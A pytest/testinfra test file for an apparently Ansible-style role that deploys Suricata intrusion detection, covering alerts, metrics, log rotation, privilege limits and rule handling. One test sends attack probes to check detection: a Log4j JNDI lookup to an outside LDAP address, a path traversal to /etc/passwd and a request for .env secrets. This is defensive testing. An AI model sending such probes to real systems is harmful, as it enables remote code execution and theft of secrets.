"""What looks like a break-in is told, what does not is not, and whoever watches may do nothing else."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import testinfra
from machine import until
from playbook import Run, play

SCENARIO = Path(__file__).resolve().parents[1]
INVENTORY = SCENARIO / "inventory.yml"
EVENTS = "/var/log/intrusion-detection/eve.json"
MARKER, MARKED = "/slipway-marker-7d1f", "a made up marker"
TEXTFILE = "/var/lib/prometheus/node-exporter/slipway_intrusion_detection.prom"
LATE = {"health_deadline": "0s", "health_timeout": "60s"}  # a busy machine is no answer
BROKEN = 'alert tcp any any -> any any (msg:"broken"; nosuchword; sid:1000900;)'


@pytest.fixture(scope="module")
def stranger():
    return testinfra.get_host("docker://slipway-intrusion-detection-stranger1")


def converge(*options: str, **variables: Any) -> Run:
    return play(SCENARIO / "converge.yml", INVENTORY, *options, **variables)


def events(host) -> list[dict[str, Any]]:
    """Of the file since its last rotation, which is made with the next event."""
    return [json.loads(line) for line in host.run(f"cat {EVENTS}").stdout.splitlines() if line.endswith("}")]


def told(host, signature: str) -> list[dict[str, Any]]:
    return [one for one in events(host) if one["alert"]["signature"] == signature]


def ask(stranger, path: str, *options: str) -> None:
    stranger.check_output(f"curl -s -m 5 -o /dev/null {' '.join(options)} http://edge1{path}")


def seen(host, stranger, path: str, signature: str, *options: str) -> bool:
    """Whether a request more is told; what was asked before it has been looked at by then."""
    before = len(told(host, signature))
    ask(stranger, path, *options)
    return until(lambda: len(told(host, signature)) > before)


def counted(host, name: str) -> float:
    unit = "slipway-intrusion-detection.service"
    host.check_output(f"systemctl reset-failed {unit}; systemctl start {unit}")  # the timer starts it, too
    line = next(one for one in host.file(TEXTFILE).content_string.splitlines() if one.startswith(f"{name} "))
    return float(line.split()[1])


def health(tmp_path: Path) -> dict[str, list[dict[str, Any]]]:
    """What is measured of the role, by host; the edges of this scenario have nothing else that edges have."""
    run = play("health", INVENTORY, "--limit", "edge", health_report_dir=str(tmp_path), **LATE)
    assert "Traceback" not in run.output
    hosts = json.loads((tmp_path / "health.json").read_text())["hosts"]
    return {
        name: [one for one in hosts[name] if one["id"].startswith("security.intrusion_detection.")]
        for name in ("edge1", "edge2")
    }


def test_a_marked_request_is_told_and_an_ordinary_one_is_not(host, stranger):
    ask(stranger, "/ordinary")
    assert seen(host, stranger, f"{MARKER}?token=private", MARKED)
    (event, *_) = told(host, MARKED)
    assert event["alert"]["severity"] == 1 and event["dest_port"] == 80
    assert event["src_ip"] == stranger.check_output("hostname -I").split()[0]
    everything = host.check_output(f"cat {EVENTS}")
    assert "ordinary" not in everything and "private" not in everything


def test_what_the_role_brings_sees_who_tries(host, stranger):
    secrets = "slipway: secrets of a repository are asked for"
    assert seen(host, stranger, "/.env", secrets)
    assert seen(host, stranger, "/", "slipway: a lookup by Log4j is sent", "-A", "'${jndi:ldap://192.0.2.1/a}'")
    assert seen(host, stranger, "/../../etc/passwd", "slipway: files outside of the site are asked for", "--path-as-is")
    assert told(host, secrets)[0]["alert"]["severity"] == 2


def test_it_is_no_root_and_may_only_look(host):
    status = dict(
        line.split(":\t", 1)
        for line in host.check_output("cat /proc/$(systemctl show -P MainPID suricata)/status").splitlines()
    )
    assert "0" not in status["Uid"].split()
    assert int(status["CapEff"], 16) == int(status["CapBnd"], 16) == 1 << 13  # NET_RAW
    assert (host.file(EVENTS).mode, host.file(EVENTS).group) == (0o640, "adm"), "role logs reads it"


def test_events_are_counted_by_severity_over_a_rotation(host, stranger):
    name = 'slipway_intrusion_detection_alerts_total{severity="1"}'
    assert seen(host, stranger, MARKER, MARKED)
    before = len(told(host, MARKED))
    assert until(lambda: counted(host, name) == before)
    host.check_output("logrotate --force /etc/logrotate.d/slipway-intrusion-detection")
    assert told(host, MARKED) == [] and seen(host, stranger, MARKER, MARKED)
    # Who sends logs is of this group, and where root may not read all, of no other.
    assert MARKED in host.check_output(f"setpriv --reuid=nobody --regid=adm --clear-groups cat {EVENTS}")
    assert until(lambda: counted(host, name) == before + 1)
    assert until(lambda: counted(host, "slipway_intrusion_detection_packets_total") > 0)  # it tells every 8 seconds


def test_who_watches_no_more_is_told(host, tmp_path):
    assert counted(host, "slipway_intrusion_detection_up") == 1
    host.check_output("systemctl stop suricata")
    try:
        assert counted(host, "slipway_intrusion_detection_up") == 0
        found = health(tmp_path)["edge1"]
        assert {one["verdict"] for one in found} == {"fail"}
        assert all("Suricata does not answer" in one["reason"] for one in found)
    finally:
        host.check_output("systemctl start suricata")
    assert until(lambda: counted(host, "slipway_intrusion_detection_up") == 1)


def test_broken_rules_are_refused_and_the_old_ones_go_on(host, stranger):
    run = converge("--limit", "edge1", intrusion_detection_rules=[BROKEN])
    assert run.code != 0 and "nosuchword" in run.said and "Traceback" not in run.output
    assert not host.file("/etc/slipway/intrusion-detection/rules/inventory.rules").exists
    assert seen(host, stranger, MARKER, MARKED)


def test_rules_are_taken_and_let_go_without_a_restart(host, stranger):
    process = host.check_output("systemctl show -P MainPID suricata")
    mine = 'alert http any any -> $HOME_NET any (msg:"mine"; http.uri; content:"/mine"; sid:1000200; rev:1;)'
    quiet = {"intrusion_detection_suppressed": [{"sid": 1000101, "reason": "the tests ask so"}]}
    assert converge("--limit", "edge1", intrusion_detection_rules=[mine], **quiet).code == 0
    before = len(told(host, MARKED))
    ask(stranger, MARKER)
    assert seen(host, stranger, "/mine", "mine") and len(told(host, MARKED)) == before
    assert converge("--limit", "edge1").code == 0
    assert seen(host, stranger, MARKER, MARKED)
    assert host.check_output("systemctl show -P MainPID suricata") == process


def test_health_says_that_it_sees_and_where_it_may_not_it_says_why(host, stranger, tmp_path):
    ask(stranger, "/")
    found = health(tmp_path)
    assert {one["verdict"] for one in found["edge1"]} == {"pass"} and len(found["edge1"]) == 2
    assert {one["verdict"] for one in found["edge2"]} == {"skip"} and len(found["edge2"]) == 2
    assert all("not applicable: this host does not let packets" in one["reason"] for one in found["edge2"])


def test_a_host_that_does_not_let_packets_be_looked_at_gets_nothing_and_hears_why():
    edge2 = testinfra.get_host("docker://slipway-intrusion-detection-edge2")
    run = converge("--limit", "edge2")
    assert run.code == 0
    assert "edge2: intrusion detection is not applicable" in run.said and "Operation not permitted" in run.said
    assert not edge2.exists("suricata")


def test_rules_of_an_archive_are_used_by_its_checksum(host, stranger):
    """As that of Emerging Threats, from a mirror."""
    theirs = 'alert http any any -> any any (msg:"theirs"; http.uri; content:"/theirs"; classtype:own; sid:2000001;)'
    host.check_output(
        "mkdir -p /srv/et/rules && cd /srv/et"
        " && echo %s > rules/emerging-test.rules"
        " && echo 'config classification: own,A class of theirs,1' > rules/classification.config"
        " && tar czf rules.tar.gz rules",
        theirs,
    )
    archive = {"intrusion_detection_rules_url": "file:///srv/et/rules.tar.gz"}
    digest = host.check_output("sha256sum /srv/et/rules.tar.gz").split()[0]
    archive["intrusion_detection_rules_checksum"] = f"sha256:{digest}"
    assert converge("--limit", "edge1", **archive).code == 0
    assert seen(host, stranger, "/theirs", "theirs") and told(host, "theirs")[0]["alert"]["severity"] == 1


def test_switched_off_it_says_what_stays_and_comes_back(host, stranger):
    off = {"intrusion_detection_state": "absent"}
    run = converge("--limit", "edge1", **off)
    assert run.code == 0 and "the package suricata, its user, /var/log/intrusion-detection" in run.said
    assert not host.service("suricata").is_running and not host.service("suricata").is_enabled
    assert not host.file("/etc/slipway/intrusion-detection").exists and not host.file(TEXTFILE).exists
    assert host.exists("suricata") and host.file(EVENTS).exists
    assert converge("--limit", "edge1", **off).changed == 0
    assert converge("--limit", "edge1").code == 0
    assert any(seen(host, stranger, MARKER, MARKED) for _ in range(3))  # it answers before it captures


def test_what_cannot_be_meant_is_refused():
    wrong = {
        "intrusion_detection_interfaces": ["eth7"],
        "intrusion_detection_home": [],
        "intrusion_detection_rules_url": "https://mirror.example.test/rules.tar.gz",
        "intrusion_detection_rule_files": ["a/x.rules", "b/x.rules"],
    }
    run = converge("--limit", "edge1", **wrong)
    assert run.code != 0 and "Nothing was changed" in run.said
    for said in (
        "intrusion_detection_interfaces has eth7",
        "the host's own addresses",
        "intrusion_detection_rules_checksum is empty",
        "has two files of one name: x.rules",
    ):
        assert said in run.said
